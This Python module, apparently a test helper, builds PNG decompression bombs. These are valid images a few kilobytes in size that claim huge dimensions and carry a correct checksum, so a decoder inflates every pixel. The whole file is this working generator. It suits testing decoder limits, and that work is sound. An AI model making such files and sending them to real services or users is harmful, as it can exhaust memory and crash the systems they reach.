"""Pictures made to attack a decoder: a PNG that claims far more pixels than
its few bytes seem to hold."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path


def png_bomb(path: Path, width: int, height: int, *, alpha: bool = False) -> Path:
    """A valid PNG of ``width`` × ``height`` black pixels, a few KB on disk
    however large it claims to be: one deflate block of zeros written again
    and again (each block stands alone after a full flush), with the checksum
    of all those zeros, so that a decoder really produces every pixel."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))

    total = (width * (4 if alpha else 3) + 1) * height  # a filter byte before each row
    block = 1 << 20
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    repeated = deflate.compress(bytes(block)) + deflate.flush(zlib.Z_FULL_FLUSH)
    rest = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = rest.compress(bytes(total % block)) + rest.flush(zlib.Z_FINISH)
    adler = ((total % 65521) << 16) | 1  # Adler-32 of zeros only
    stream = b"\x78\xda" + repeated * (total // block) + tail + struct.pack(">I", adler)
    header = struct.pack(">IIBBBBB", width, height, 8, 6 if alpha else 2, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", stream)
                     + chunk(b"IEND", b""))
    return path
